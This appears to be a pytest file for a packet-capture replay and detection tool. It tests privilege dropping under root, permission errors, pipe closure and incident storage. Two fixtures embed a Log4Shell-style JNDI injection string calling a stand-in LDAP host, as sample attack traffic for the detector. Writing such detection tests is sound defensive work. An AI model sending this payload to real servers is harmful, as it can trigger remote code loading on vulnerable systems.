"""A replay that root starts has given root's privileges up before it reads a capture."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from aegis_tui.cli import main
from tests.factories import conversation, pcap_file

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root: there is nothing to give up")

SPY = """
import sys
from engine.sources import pcapfile
opened = pcapfile.PcapFile.__init__
def spy(self, path):
    rows = dict(row.split(":\\t", 1) for row in open("/proc/self/status").read().splitlines() if ":\\t" in row)
    print("CapEff", int(rows["CapEff"], 16), "CapBnd", int(rows["CapBnd"], 16), "NNP", rows["NoNewPrivs"])
    opened(self, path)
pcapfile.PcapFile.__init__ = spy
from aegis_tui.cli import main
sys.argv = ["aegis-tui", "replay", sys.argv[1], "--headless"]
sys.exit(main())
"""


def _replay(file: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", SPY, str(file)], capture_output=True, text=True, check=False)


@pytest.mark.root
@needs_root
def test_no_capability_is_left_when_the_first_capture_is_opened(tmp_path: Path) -> None:
    done = _replay(pcap_file(tmp_path / "a.pcap", conversation(b"GET / HTTP/1.1\r\n\r\n")))
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("CapEff 0 CapBnd 0 NNP 1\n")


@pytest.mark.root
@needs_root
def test_a_capture_that_only_another_user_may_read_is_refused_with_the_way_out(tmp_path: Path) -> None:
    file = pcap_file(tmp_path / "a.pcap", conversation(b"x"))
    file.chmod(0o600)
    os.chown(file, 1000, 1000)
    done = _replay(file)
    assert done.returncode == 1
    assert f"cannot read {file}: permission denied; root gives up its privileges to replay" in done.stderr


def test_a_reader_that_hangs_up_ends_the_replay_quietly_though_the_model_still_loads(tmp_path: Path) -> None:
    capture = pcap_file(tmp_path / "a.pcap", conversation(b"GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n\r\n"))
    words = [sys.executable, "-m", "aegis_tui", "replay", str(capture), "--headless", "--json"]
    with subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()
        assert process.stderr.read() == b""
    assert process.returncode == 141


def test_a_replay_without_a_name_needs_a_console(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", "--headless"]) == 2
    assert "name what to replay" in capsys.readouterr().err


def test_the_library_needs_a_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    with (tmp_path / "empty").open("w+", encoding="utf-8") as nothing:
        monkeypatch.setattr("sys.stdin", nothing)
        assert main(["replay", str(tmp_path)]) == 2
    assert "terminal" in capsys.readouterr().err


def test_a_replay_leaves_an_incident_of_another_capture_as_it_is_stored_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    exploit = conversation(b"GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: a\r\n\r\n")
    for name, told in (("whole.pcap", False), ("slice.pcap", True), ("whole.pcap", False)):
        assert main(["replay", str(pcap_file(tmp_path / name, exploit)), "--headless"]) == 0
        assert ("(from whole.pcap) is stored already and stays as it is" in capsys.readouterr().err) is told
